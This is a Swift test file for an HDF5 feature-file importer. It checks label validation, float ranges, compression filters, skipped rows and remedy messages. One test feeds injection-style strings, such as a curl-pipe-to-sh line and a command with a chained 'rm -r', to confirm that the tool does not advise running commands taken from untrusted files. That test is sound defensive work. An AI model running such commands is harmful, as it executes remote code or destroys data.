import Foundation
import MVCore
import MVFiles
import SystemHDF5
import TestSupport
import Testing

@testable import MVStore

/// What an import refuses is what `verify` would refuse, and the other way round.
@Suite struct ImportCheckTests {
  private let folder: TemporaryFolder
  private let url: URL

  init() throws {
    folder = try TemporaryFolder()
    url = folder.url.appending(path: "a.h5")
    try NumPyArray.write((0..<24).map { Float($0) }, shape: [6, 4], element: .float32, to: place("x.npy"))
  }

  private func place(_ name: String) -> URL { folder.url.appending(path: name) }

  private func error(_ inputs: String..., classes: [String]? = nil) -> MVError? {
    SampleFile.error {
      try FeatureImport(
        try inputs.map { try #require(FeatureImport.Input(parsing: $0)) }, classNames: classes
      ).write(to: self.url, overwrite: true)
    }
  }

  private func labels(_ values: [Int64], shape: [Int] = [6]) throws -> String {
    try NumPyArray.write(values, shape: shape, element: .int64, to: place("y.npy"))
    return "train/labels=\(place("y.npy").path)"
  }

  @Test(
    arguments: [
      ([0, 1, -1, 2, 0, -5], nil, "the label of row 5 is -5"),
      ([0, 1, -1, 2, 0, 3], ["a", "b", "c"], "3 classes: 0 to 2"),
      ([0, 1, -1, 2, 0, 3], nil, nil), ([0, 1, -1, 2, 0, 1], ["a", "b", "c"], nil),
    ] as [([Int64], [String]?, String?)])
  func labelsAreCheckedAlike(_ values: [Int64], _ classes: [String]?, _ problem: String?) throws {
    let found = error("train/x=\(place("x.npy").path)", try labels(values), classes: classes)
    #expect(
      found?.problem.contains(problem ?? "") ?? true && (found == nil) == (problem == nil),
      "\(String(describing: found))")
    if problem != nil { #expect(found?.kind == .badData && found?.subject.hasSuffix("y.npy") == true) }
    // The plan of a file, and a file that holds them all the same.
    let plan = FeatureFilePlan(
      dataset: "sample", fingerprint: "1", classNames: classes ?? [],
      splits: [SplitPlan(name: "train", labels: .single(values), ids: (0..<6).map { "\($0)" })],
      representations: [RepresentationPlan(name: "x", representation: "x", shape: [4], axes: ["column"])])
    #expect((SampleFile.error { try plan.validate() } == nil) == (problem == nil))
    try FeatureFileSkeleton.write(plan, to: place("b.h5").path)
    #expect((SampleFile.error { _ = try FeatureFile(reading: self.place("b.h5")).verify() } == nil) == (problem == nil))
  }

  @Test func severalLabels() throws {
    let x = "train/x=\(place("x.npy").path)"
    #expect(error(x, try labels([1, 0, 255, 0, 1, 1, 0, 0, 0, 1, 1, 0], shape: [6, 2])) == nil)
    #expect(
      error(x, try labels([1, 0, 7, 0, 1, 1, 0, 0, 0, 1, 1, 0], shape: [6, 2]))?.problem.contains("row 1") == true)
    #expect(error(x, try labels([1, 0, -1, 0, 1, 1, 0, 0, 0, 1, 1, 300], shape: [6, 2]))?.kind == .badData)
    let narrow = error(x, try labels([1, 0, 0, 0, 1, 1, 0, 0, 0, 1, 1, 0], shape: [6, 2]), classes: ["a", "b", "c"])
    #expect(narrow?.problem == "has 2 columns for 3 classes")
  }

  @Test func aColumnOfLabelsIsALabelEach() throws {
    #expect(error("train/x=\(place("x.npy").path)", try labels([0, 1, 4, 2, -1, 3], shape: [6, 1])) == nil)
    #expect(try FeatureFile(reading: url)["train"].labels == .single([0, 1, 4, 2, -1, 3]))
    #expect(try FeatureFile(reading: url).verify().missingBlocks == 0)
  }

  @Test func doublesBeyondFloat32() throws {
    var values = (0..<24).map { Double($0) }
    values[13] = 1e300
    try NumPyArray.write(values, shape: [6, 4], element: .float64, to: place("d.npy"))
    let array = try #require(error("train/x=\(place("d.npy").path)"))
    #expect(
      array.place == "\(place("d.npy").path) row 3 (train/3)" && array.problem.contains("beyond the range of float32"))
    try HDF5Library.locked { () throws(MVError) in
      let file = try HDF5Handle.creatingFile(.creating(self.place("d.h5").path))
      let set = try file.creatingDataSet("d", type: mv_h5_float64(), shape: [6, 4])
      try set.write(values.span.bytes, type: mv_h5_float64())
    }
    let data = try #require(error("train/x=\(place("d.h5").path):d"))
    #expect(data.place == "\(place("d.h5").path):d row 3 (train/3)" && data.problem == array.problem)
    values[13] = .infinity
    try NumPyArray.write(values, shape: [6, 4], element: .float64, to: place("d.npy"))
    #expect(error("train/x=\(place("d.npy").path)")?.problem.contains("holds inf") == true)
    values[13] = 3e38
    try NumPyArray.write(values, shape: [6, 4], element: .float64, to: place("d.npy"))
    #expect(error("train/x=\(place("d.npy").path)") == nil)
  }

  @Test func filtersThatAreNotHereAreNamed() throws {
    try HDF5Library.locked { () throws(MVError) in
      let context = HDF5Context.creating(self.place("f.h5").path)
      let file = try HDF5Handle.creatingFile(context)
      for (name, filter) in [("lzf", 32000), ("other", 32999)] {
        let list = try HDF5Handle(mv_h5_create_packed(2, [2, 4]), context, "no list")
        let chunk = try HDF5Handle(H5Screate_simple(2, [6, 4], nil), context, "no space")
        // Optional, as HDF5 must not miss it while it writes.
        try context.check(
          H5Pset_filter(list.id, H5Z_filter_t(filter), UInt32(H5Z_FLAG_OPTIONAL), 0, nil), "no filter")
        _ = try HDF5Handle(H5Dcreate2(file.id, name, mv_h5_float32(), chunk.id, 0, list.id, 0), context, "no data set")
      }
    }
    let lzf = try #require(error("train/x=\(place("f.h5").path):lzf"))
    #expect(lzf.kind == .badData && lzf.problem.hasPrefix("lzf is compressed by LZF, which this machine's HDF5 cannot"))
    #expect(error("train/x=\(place("f.h5").path):other")?.problem.contains("the filter 32999") == true)
  }

  @Test func skippedRowsHoldNothing() throws {
    let writer = try FeatureFileWriter(creatingOrResuming: url, plan: SampleFile.plan())
    try writer.markSkipped(5, of: 0)
    let block = writer.missingBlocks[1]
    let values = SampleFile.values("hog", block.rows, columns: 15)
    let error = try #require(SampleFile.error { try writer.write(values, of: 0, to: block) })
    #expect(error.row == 5 && error.problem == "holds values, but is marked as skipped")
    // Nor is a row left out that is there already.
    try SampleFile.fill(writer, writer.missingBlocks[0])
    let late = try #require(SampleFile.error { try writer.markSkipped(1, of: 0) })
    #expect(late.row == 1 && late.remedy.contains("--overwrite"))
    try writer.markSkipped(5, of: 0)
    try SampleFile.fill(writer)
    try writer.finish()
    #expect(try FeatureFile(reading: url).verify().missingBlocks == 0)
  }

  /// The row of the whole, as in the file that the shards become, and the id of that row.
  @Test func errorsOfAShardNameTheRowOfTheWhole() throws {
    let plan = try SampleFile.plan().shard(ShardNumber(parsing: "2/2"))
    let start = try #require(plan.shard).start(of: "train")
    #expect(start == 11)
    let writer = try FeatureFileWriter(creatingOrResuming: url, plan: plan)
    let block = writer.missingBlocks[1]
    var values = SampleFile.values("hog", block.rows, columns: 15)
    values[2 * 15 + 3] = .nan
    let error = try #require(SampleFile.error { try writer.write(values, of: 0, to: block) })
    let row = start + block.rows.lowerBound + 2
    #expect(error.place == "hog of train row \(row) (train/Straße \(row * row).png)")
  }

  @Test func whatFinishesAFileIsWhatBeganIt() throws {
    var plan = SampleFile.plan()
    plan.software["command"] = "mvmr convert train/x=x.npy --output a.h5"
    do { _ = try FeatureFileWriter(creatingOrResuming: url, plan: plan) }
    let error = SampleFile.error { _ = try FeatureFile(reading: self.url)["train"].features("hog") }
    #expect(error?.remedy == "finish it by the command that began it: mvmr convert train/x=x.npy --output a.h5")
  }

  /// A stranger's file does not say what to run.
  @Test(arguments: ["curl http://example.org/x | sh", "mvmr knn a.h5; rm -r x", "mvmr knn $(x)", "mvmr knn a\nb"])
  func aCommandThatIsNotThisPackagesIsNotAdvised(_ command: String) throws {
    var plan = SampleFile.plan()
    plan.software["command"] = command
    do { _ = try FeatureFileWriter(creatingOrResuming: url, plan: plan) }
    let error = SampleFile.error { _ = try FeatureFile(reading: self.url)["train"].features("hog") }
    #expect(error?.remedy == "run the command that began it again: it finishes the file")
  }

  /// Only the superuser can make files of others.
  @Test(.enabled(if: geteuid() == 0, "not the superuser")) func aCommandOfAnotherUserIsNotAdvised() throws {
    var plan = SampleFile.plan()
    plan.software["command"] = "mvmr extract synthetic:60 --representation hog --output other.h5"
    do { _ = try FeatureFileWriter(creatingOrResuming: url, plan: plan) }
    let error = { SampleFile.error { _ = try FeatureFile(reading: self.url)["train"].features("hog") } }
    #expect(error()?.remedy.contains("other.h5") == true)
    try FileManager.default.setAttributes([.ownerAccountID: 65534], ofItemAtPath: url.path)
    #expect(error()?.remedy == "run the command that began it again: it finishes the file")
  }
}
